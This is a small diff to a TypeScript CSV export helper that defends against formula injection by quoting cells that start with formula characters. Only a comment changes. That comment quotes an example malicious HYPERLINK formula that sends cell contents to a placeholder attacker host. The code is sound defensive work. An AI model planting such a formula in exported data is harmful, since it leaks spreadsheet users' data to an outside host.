@@ -6,7 +6,7 @@ const FORMULA_START = /(?<=^|[\r\n])(?=[=+\-@\t\r])/g;
  * `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula by a spreadsheet
  * (`=HYPERLINK("http://evil.test/?d="&A1,"Click")` from a nationality or a staff name), so it gets
  * a leading `'` and is read as text; so does every line inside the cell, as a reader that splits rows
- * on a lone carriage return would start a row there (issue 22, finding 4). Numbers stay numbers;
+ * on a lone carriage return would start a row there. Numbers stay numbers;
  * quoting is the CSV writer's job (admin/src/csv.ts quotes every field).
  */
 export function csvSafe(value: unknown): string | number {
